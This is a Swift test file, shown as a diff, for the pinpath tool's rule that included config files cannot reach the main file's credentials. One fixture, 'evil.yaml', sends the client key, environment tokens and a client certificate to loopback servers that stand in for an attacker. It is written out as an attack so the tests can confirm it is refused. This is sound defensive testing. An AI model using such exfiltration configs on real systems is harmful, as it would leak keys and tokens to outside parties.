@@ -1,0 +1,321 @@
+import Foundation
+import PinpathTestSupport
+import Testing
+
+/// Issue 25 §4: an included file (`include: conf.d/*.yaml`) is written by someone trusted less than the main
+/// file's author, and may add endpoints, never reach what the main file holds. Before, a drop-in file received
+/// the main file's default `Authorization` (even over plain http), expanded any `${ENV}` and read any file the
+/// agent could (`body_file:` the mTLS key), and sent it all to a URL of its choosing. Each test runs the real
+/// binary (`pinpath check-config`, `pinpath run --once`) against recording servers on loopback standing for the
+/// attacker: plain http on 127.0.0.1 and https on `localhost` (a leaf of the test PKI, trusted by the main
+/// file's policy).
+@Suite("Included files reach less than the main file", .serialized)
+struct IncludeReachTests {
+    static let token = "SECRET-probe-token-5e1f"
+
+    /// A main file as an operator writes it: a default `Authorization` from `${PROBE_TOKEN}` and a `User-Agent`,
+    /// the test CA for `localhost`, and its own endpoints (one with a client certificate); `include` is the YAML
+    /// of the `include:` key, `files` the included files by name, `moreDefaults` lines added to `defaults:`.
+    final class Scene {
+        let directory: TemporaryDirectory
+        let plain: RecordingServer
+        let tls: RecordingServer
+        let clientKey = ClientCertificatePKI.shared.path("client", "key")
+        let clientCertificate = ClientCertificatePKI.shared.path("client")
+
+        init() throws {
+            directory = try TemporaryDirectory()
+            plain = try RecordingServer(directory: directory.path)
+            let localhost = LocalhostPKI.shared
+            tls = try RecordingServer(
+                certificate: (localhost.path("valid"), localhost.path("valid", "key"), [TestPKI.shared.path("inter")]),
+                directory: directory.path)
+            try FileManager.default.createDirectory(atPath: directory.file("conf.d"), withIntermediateDirectories: true)
+        }
+
+        deinit {
+            plain.stop()
+            tls.stop()
+        }
+
+        /// `http://127.0.0.1:PORT`, the plain attacker.
+        var plainOrigin: String { plain.origin }
+        /// `https://localhost:PORT`, the TLS attacker (its certificate valid for localhost under the test CA).
+        var tlsOrigin: String { "https://localhost:\(tls.port)" }
+        /// `http://localhost:PORT`: the plain server by the name a scope can list.
+        var plainLocalhost: String { "http://localhost:\(plain.port)" }
+
+        func write(include: String, files: [String: String], mainEndpoints: String = "", moreDefaults: String = "") throws {
+            try """
+            events: { output: events.jsonl, probes: all }
+            include: \(include)
+            policies:
+              test-ca: { mode: none, hosts: ["localhost"], ca_file: \(TestPKI.shared.path("store")) }
+            defaults:
+              interval: 5s
+              timeout: 4s
+              ip_family: ipv4
+              headers: { Authorization: "Bearer ${PROBE_TOKEN}", User-Agent: pinpath-include-test }
+            \(moreDefaults)endpoints:
+              - name: main-mtls
+                url: "\(tlsOrigin)/main-mtls"
+                client_certificate: \(clientCertificate)
+                client_key: \(clientKey)
+            \(mainEndpoints)
+            """.write(toFile: directory.file("pinpath.yaml"), atomically: true, encoding: .utf8)
+            for (name, text) in files {
+                try text.write(toFile: directory.file(name), atomically: true, encoding: .utf8)
+            }
+        }
+
+        private var environment: [String] { ["/usr/bin/env", "PROBE_TOKEN=\(IncludeReachTests.token)"] }
+
+        func checkConfig(_ options: [String] = []) throws -> Shell.Result {
+            try Shell.run(environment + [Shell.pinpath, "check-config", "--config", directory.file("pinpath.yaml")] + options)
+        }
+
+        func runOnce() throws -> Shell.Result {
+            try Shell.run(environment + [Shell.pinpath, "run", "--once", "--config", directory.file("pinpath.yaml")])
+        }
+
+        /// Every request either server received, by path.
+        var requests: [String: RecordingServer.Request] {
+            Dictionary((plain.requests + tls.requests).map { ($0.path, $0) }, uniquingKeysWith: { first, _ in first })
+        }
+
+        /// What the servers received, as one text: every header and body.
+        var received: String {
+            (plain.requests + tls.requests).map { request in
+                request.headers.map { "\($0.name): \($0.value)" }.joined(separator: "\n") + "\n" + request.body
+            }.joined(separator: "\n")
+        }
+
+        /// A line of the client key's base64: some of its bytes, as a body would carry them.
+        var keyBytes: String {
+            get throws {
+                let lines = try String(contentsOfFile: clientKey, encoding: .utf8).split(separator: "\n")
+                return String(lines[lines.count / 2])
+            }
+        }
+    }
+
+    @Test("An included file that names the key file, ${PROBE_TOKEN}, ${HOME} or a client key is refused: nothing is sent")
+    func exfiltrationRefused() throws {
+        let scene = try Scene()
+        try scene.write(
+            include: "conf.d/*.yaml",
+            files: [
+                "conf.d/evil.yaml": """
+                endpoints:
+                  - name: steal-key
+                    url: "\(scene.plainOrigin)/steal-key"
+                    method: POST
+                    body_file: \(scene.clientKey)
+                  - name: steal-env
+                    url: "\(scene.tlsOrigin)/steal-env"
+                    headers: { X-Token: "${PROBE_TOKEN}", X-Home: "${HOME}" }
+                  - name: steal-mtls
+                    url: "\(scene.tlsOrigin)/steal-mtls"
+                    client_certificate: \(scene.clientCertificate)
+                    client_key: \(scene.clientKey)
+                  - name: steal-through-proxy
+                    url: "\(scene.tlsOrigin)/steal-through-proxy"
+                    proxy: "http://user:${PROBE_TOKEN}@127.0.0.1:\(scene.plain.port)"
+
+                """
+            ])
+        let evil = scene.directory.file("conf.d/evil.yaml")
+        let check = try scene.checkConfig()
+        #expect(check.status == 78, "\(check.stdout)\(check.stderr)")
+        let main = scene.directory.file("pinpath.yaml")
+        let localFile =
+            "which only \(main) may name: an included file could send the agent's keys or any file it can read to a server of its choosing; move this endpoint to \(main)"
+        let environment = """
+            ${…} reads the agent's environment, which only \(main) may: an included file could send it anywhere; move this \
+            endpoint to \(main) (a header can instead be a default there, scoped to this endpoint's host by include's credentials_for)
+            """
+        #expect(
+            check.stderr.split(separator: "\n").map(String.init) == [
+                "pinpath: error: \(evil):5:5: endpoints[0].body_file: body_file reads a local file, \(localFile)",
+                "pinpath: error: \(evil):8:25: endpoints[1].headers.X-Token: \(environment)",
+                "pinpath: error: \(evil):8:51: endpoints[1].headers.X-Home: \(environment)",
+                "pinpath: error: \(evil):11:5: endpoints[2].client_certificate: client_certificate reads a local file, \(localFile)",
+                "pinpath: error: \(evil):12:5: endpoints[2].client_key: client_key reads a local file, \(localFile)",
+                "pinpath: error: \(evil):15:12: endpoints[3].proxy: \(environment)",
+            ])
+
+        let run = try scene.runOnce()
+        #expect(run.status == 78, "\(run.stderr)")
+        #expect(scene.requests.isEmpty, "the attacker received: \(scene.received)")
+        #expect(!scene.received.contains(Self.token))
+        #expect(try !scene.received.contains(scene.keyBytes))
+        SecretLeakTests.expectNoSecret([("check-config", check.stdout + check.stderr), ("run", run.stdout + run.stderr)])
+    }
+
+    @Test("An included endpoint that only inherits gets no Authorization, over http or https; a warning says why")
+    func inheritedCredentialWithheld() throws {
+        let scene = try Scene()
+        try scene.write(
+            include: "conf.d/*.yaml",
+            files: [
+                "conf.d/inherit.yaml": """
+                endpoints:
+                  - { name: attacker-http, url: "\(scene.plainOrigin)/attacker-http" }
+                  - { name: attacker-https, url: "\(scene.tlsOrigin)/attacker-https" }
+
+                """
+            ],
+            mainEndpoints: """
+                  - { name: main-http, url: "\(scene.plainOrigin)/main-http" }
+                  - { name: main-https, url: "\(scene.tlsOrigin)/main-https" }
+                """)
+        let check = try scene.checkConfig()
+        #expect(check.status == 0, "\(check.stderr)")
+        let main = scene.directory.file("pinpath.yaml")
+        let included = scene.directory.file("conf.d/inherit.yaml")
+        let plainHTTP = """
+            the credential default headers.Authorization from \(main) is not sent to this endpoint: it is plain http, where \
+            anyone on the path reads it (use https)
+            """
+        #expect(
+            check.stderr.split(separator: "\n").map(String.init) == [
+                "pinpath: warning: \(included):2:5: endpoints[0]: \(plainHTTP)",
+                """
+                pinpath: warning: \(included):3:5: endpoints[1]: the credential default headers.Authorization from \(main) is \
+                not applied to this endpoint of an included file: include's credentials_for does not list "localhost" (list it \
+                there for this file's endpoints to have it)
+                """,
+                "pinpath: warning: \(main):15:5: endpoints[1]: \(plainHTTP)",
+            ])
+        // --effective shows what each endpoint sends, and what it was refused.
+        let effective = try scene.checkConfig(["--effective", "--json"])
+        let object = try JSONSerialization.jsonObject(with: Data(effective.stdout.utf8)) as? [String: Any]
+        let endpoints = (object?["endpoints"] as? [[String: Any]] ?? []).map {
+            ($0["name"] as? String ?? "", $0["effective"] as? [String: Any] ?? [:])
+        }
+        let sent = Dictionary(
+            endpoints.map { ($0.0, ($0.1["headers"] as? [String: String] ?? [:]).keys.sorted()) }, uniquingKeysWith: { a, _ in a })
+        let withheld = Dictionary(endpoints.map { ($0.0, $0.1["withheld_defaults"] as? [String] ?? []) }, uniquingKeysWith: { a, _ in a })
+        #expect(sent["main-https"] == ["Authorization", "User-Agent"])
+        #expect(sent["attacker-https"] == ["User-Agent"] && sent["attacker-http"] == ["User-Agent"] && sent["main-http"] == ["User-Agent"])
+        #expect(withheld["attacker-https"] == ["headers.Authorization"] && withheld["main-https"] == [], "\(withheld)")
+
+        let run = try scene.runOnce()
+        #expect(run.status == 0, "every endpoint answers 200: \(run.stderr)")
+        let requests = scene.requests
+        #expect(requests.keys.sorted() == ["/attacker-http", "/attacker-https", "/main-http", "/main-https", "/main-mtls"])
+        #expect(requests["/main-https"]?.header("Authorization") == "Bearer \(Self.token)", "the main file's endpoint keeps it")
+        for path in ["/attacker-http", "/attacker-https", "/main-http"] {
+            #expect(requests[path]?.header("Authorization") == nil, "\(path) received the token")
+            #expect(requests[path]?.header("User-Agent") == "pinpath-include-test", "other defaults still apply to \(path)")
+        }
+    }
+
+    @Test("include: {files:, credentials_for:} sends the defaults to the scoped host over https, never over http")
+    func scopedCredential() throws {
+        let scene = try Scene()
+        try FileManager.default.createDirectory(atPath: scene.directory.file("other.d"), withIntermediateDirectories: true)
+        let body = "SECRET-default-body-91c0"
+        try body.write(toFile: scene.directory.file("body.txt"), atomically: true, encoding: .utf8)
+        try scene.write(
+            include: """
+                [{ files: conf.d/*.yaml, credentials_for: ["localhost", "*.internal.example"] }, other.d/*.yaml]
+                """,
+            files: [
+                "conf.d/scoped.yaml": """
+                endpoints:
+                  - { name: scoped-https, url: "\(scene.tlsOrigin)/scoped-https" }
+                  - { name: scoped-http, url: "\(scene.plainLocalhost)/scoped-http" }
+
+                """,
+                "other.d/unscoped.yaml": """
+                endpoints:
+                  - { name: unscoped-https, url: "\(scene.tlsOrigin)/unscoped-https" }
+
+                """,
+            ],
+            moreDefaults: "  method: POST\n  body_file: body.txt\n")
+        let check = try scene.checkConfig()
+        #expect(check.status == 0, "\(check.stderr)")
+        let main = scene.directory.file("pinpath.yaml")
+        #expect(
+            check.stderr.split(separator: "\n").map(String.init) == [
+                """
+                pinpath: warning: \(scene.directory.file("other.d/unscoped.yaml")):2:5: endpoints[0]: the credential default \
+                headers.Authorization, body_file from \(main) is not applied to this endpoint of an included file: include's \
+                credentials_for does not list "localhost" (list it there for this file's endpoints to have it)
+                """,
+                """
+                pinpath: warning: \(scene.directory.file("conf.d/scoped.yaml")):3:5: endpoints[1]: the credential default \
+                headers.Authorization, body_file from \(main) is not sent to this endpoint: it is plain http, where anyone on the \
+                path reads it (use https)
+                """,
+            ])
+
+        let run = try scene.runOnce()
+        #expect(run.status == 0, "\(run.stderr)")
+        let requests = scene.requests
+        #expect(requests["/scoped-https"]?.header("Authorization") == "Bearer \(Self.token)")
+        #expect(requests["/scoped-https"]?.body == body)
+        for path in ["/scoped-http", "/unscoped-https"] {
+            #expect(requests[path] != nil, "\(path) was not probed")
+            #expect(requests[path]?.header("Authorization") == nil && requests[path]?.body == "", "\(path) received the defaults")
+        }
+    }
+
+    @Test("include: {…} is checked: a bad host pattern, a missing files key, an unknown key, each at its line")
+    func scopeProblems() throws {
+        let scene = try Scene()
+        try scene.write(include: "[{ credentials_for: [\"a/b\"] }, { files: x/*.yaml, credentials: [a] }]", files: [:])
+        let check = try scene.checkConfig()
+        #expect(check.status == 78)
+        let main = scene.directory.file("pinpath.yaml")
+        #expect(
+            check.stderr.split(separator: "\n").map(String.init) == [
+                "pinpath: error: \(main):2:11: include[0]: files is missing (file patterns such as conf.d/*.yaml)",
+                """
+                pinpath: error: \(main):2:31: include[0].credentials_for[0]: host pattern "a/b" has "/", which no host name has \
+                (write the host alone, such as api.example.com)
+                """,
+                "pinpath: error: \(main):2:60: include[1].credentials: unknown key \"credentials\"; known keys: files, credentials_for",
+            ])
+    }
+
+    @Test("include: \"*\" over an env file and a PEM key: check-config names them and shows neither the token nor the key")
+    func includeEverything() throws {
+        let scene = try Scene()
+        try FileManager.default.copyItem(atPath: scene.clientKey, toPath: scene.directory.file("client.key"))
+        try scene.write(include: "\"*\"", files: ["probe.env": "PROBE_TOKEN=\(Self.token)\n"])
+        let check = try scene.checkConfig()
+        let json = try scene.checkConfig(["--json"])
+        #expect(check.status == 78 && json.status == 78)
+        let keyBytes = try scene.keyBytes
+        for (name, output) in [("check-config", check.stdout + check.stderr), ("check-config --json", json.stdout + json.stderr)] {
+            #expect(!output.contains(Self.token), "\(name) shows the token: \(output)")
+            #expect(!output.contains(keyBytes) && !output.contains("BEGIN"), "\(name) shows the key: \(output)")
+        }
+        let directory = scene.directory.path
+        #expect(
+            check.stderr.contains(
+                "pinpath: error: \(directory)/probe.env: the included file looks like an environment file (NAME=value lines)"))
+        #expect(check.stderr.contains("pinpath: error: \(directory)/client.key: the included file looks like a PEM private key"))
+        #expect(check.stderr.contains("pinpath: error: \(directory)/conf.d: the included file is a directory, not a regular file"))
+        #expect(!check.stderr.contains("\(directory)/pinpath.yaml"), "the main file is not included again: \(check.stderr)")
+    }
+
+    @Test("Values are quoted at most 32 characters long, controls escaped, in every problem")
+    func shortQuotes() throws {
+        let scene = try Scene()
+        let long = "PROBE_TOKEN=\(Self.token)-and-much-more-of-it"
+        try scene.write(
+            include: "conf.d/*.yaml",
+            files: [
+                "conf.d/a.yaml": "endpoints:\n  - { name: a, url: \"https://a.example/\", interval: \"\(long)\", method: \"\\e[2K\" }\n"
+            ])
+        let check = try scene.checkConfig()
+        #expect(check.status == 78)
+        #expect(!check.stderr.contains(Self.token), "\(check.stderr)")
+        #expect(check.stderr.contains(#""PROBE_TOKEN=SECRET-probe-token-5…(23 more characters)" is not a duration"#), "\(check.stderr)")
+        #expect(check.stderr.contains(#""\x1b[2K" is not an HTTP method"#), "\(check.stderr)")
+    }
+}
